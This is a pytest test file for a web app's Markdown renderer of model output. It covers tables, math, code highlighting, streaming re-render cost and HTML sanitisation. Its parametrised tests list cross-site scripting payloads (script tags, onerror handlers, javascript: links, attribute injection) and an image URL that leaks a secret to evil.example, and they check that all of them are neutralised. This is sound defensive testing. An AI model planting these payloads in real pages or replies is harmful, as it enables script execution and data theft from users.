"""Markdown from models: what renders, what is neutralised, and the cost of a live re-render."""

from __future__ import annotations

import time

import pytest

from webapp.markdown import LiveRender, render, render_plain, sanitize, settled_end


def test_tables_lists_code_and_math_render():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```python\ndef f(): pass\n```\n\n"
                  "Inline $E=mc^2$ and\n\n$$\\frac{a}{b}$$")
    assert "<table>" in html and '<td class="align-right">2</td>' in html
    assert 'type="checkbox"' in html
    assert '<pre class="highlight"><code class="language-python"><span class="k">def</span>' in html
    assert "<msup><mi>c</mi><mn>2</mn></msup>" in html and "<mfrac>" in html


@pytest.mark.parametrize("source, forbidden", [
    ("<script>alert(1)</script>", "<script"),
    ('<img src=x onerror="alert(1)">', "<img"),
    ("[x](javascript:alert(1))", 'href="javascript'),
    ('![x](javascript:alert(1))', 'src="javascript'),
    ("```html\n<script>alert(1)</script>\n```", "<script"),
    ("<iframe src=https://evil.example></iframe>", "<iframe"),
    ("$$\\href{javascript:alert(1)}{x}$$", "javascript:"),
    ('<a href="https://x" onclick="alert(1)">x</a>', "<a "),
    ('[x](https://x "a&quot; onmouseover=&quot;alert(1)")', '" onmouseover'),
])
def test_nothing_a_model_writes_can_run(source, forbidden):
    html = render(source)
    assert forbidden not in html


def test_raw_html_is_shown_as_text_and_links_are_marked():
    assert "&lt;b&gt;hi&lt;/b&gt;" in render("<b>hi</b>")
    assert 'rel="noopener noreferrer nofollow"' in render("[ok](https://example.com)")
    assert render_plain("<b>x</b>\nline") == "&lt;b&gt;x&lt;/b&gt;<br>\nline"


def test_bad_math_shows_its_source():
    assert "math-error" in render("$$\\frac{$$") or "<math" in render("$$\\frac{$$")


def test_settled_end_never_cuts_inside_a_fence_or_math():
    text = "intro\n\n```\ncode\n\nmore code\n```\n\n$$\na\n\nb\n$$\n\nlast"
    cut = settled_end(text)
    assert text[:cut].endswith("$$\n\n")
    assert settled_end("```\nopen\n\nfence\n") == 0


def test_live_render_matches_the_whole_render_for_plain_blocks():
    text = "# Title\n\nFirst paragraph.\n\n```python\nx = 1\n```\n\n| a |\n|---|\n| 1 |\n\nLast one."
    live = LiveRender()
    blocks = []
    for end in range(1, len(text) + 1):
        finished, tail = live.update(text[:end])
        blocks.append(finished)
    assert "".join(blocks) + tail == render(text)


def test_a_long_reply_stays_cheap_to_update():
    # 400 paragraphs and code blocks (about 40 KB) streamed 40 characters at a time: about
    # 1,000 page updates. Re-rendering everything each time would cost about 500 whole renders.
    chunk = "Some **text** with `code` and a [link](https://example.com).\n\n```python\nprint('x')\n```\n\n"
    text = chunk * 400
    render(text)  # warm the lexers
    full = time.perf_counter()
    render(text)
    full = time.perf_counter() - full
    live = LiveRender()
    started = time.perf_counter()
    for end in range(40, len(text), 40):
        live.update(text[:end])
    total = time.perf_counter() - started
    assert total < 10 * full, (total, full)


@pytest.mark.parametrize("source, shown", [
    ("![x](https://evil.example/?q=secret)", '<a href="https://evil.example/?q=secret" rel="noopener noreferrer nofollow">x</a>'),
    ("![](//evil.example/x.png)", '<a href="//evil.example/x.png" rel="noopener noreferrer nofollow">//evil.example/x.png</a>'),
    ("![a](/\\evil.example/x.png)", '<img src="/%5Cevil.example/x.png" alt="a">'),  # %5C is a path, not a slash
    ("![ok](/static/a.png)", '<img src="/static/a.png" alt="ok">'),
    ("![dot](data:image/png;base64,iVBORw0K)", '<img src="data:image/png;base64,iVBORw0K" alt="dot">'),
])
def test_images_load_only_from_this_site_or_data(source, shown):
    assert render(source).strip() == f"<p>{shown}</p>"


def test_the_sanitizer_alone_keeps_no_remote_image_and_no_data_link():
    cleaned = sanitize('<img src="https://evil.example/x"><img src="data:image/svg+xml,<svg/>">'
                       '<a href="data:text/html,hi">y</a><img src="/a.png">')
    assert cleaned == '<img><img><a rel="noopener noreferrer nofollow">y</a><img src="/a.png">'


def test_table_alignment_is_a_class_not_a_style_attribute():
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th class="align-center">a</th>' in html and '<td class="align-right">2</td>' in html
    assert "style=" not in html
